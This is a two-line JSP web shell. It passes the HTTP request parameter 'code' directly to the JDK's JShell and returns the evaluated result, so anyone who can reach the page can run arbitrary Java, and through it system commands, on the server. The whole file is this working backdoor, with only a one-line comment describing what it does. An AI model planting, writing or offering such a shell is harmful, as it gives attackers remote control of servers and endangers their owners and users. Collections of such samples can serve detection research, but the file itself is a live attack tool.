<%-- Java snippets from the request evaluated by the JDK's JShell. --%>
<%= jdk.jshell.JShell.create().eval(request.getParameter("code")) %>
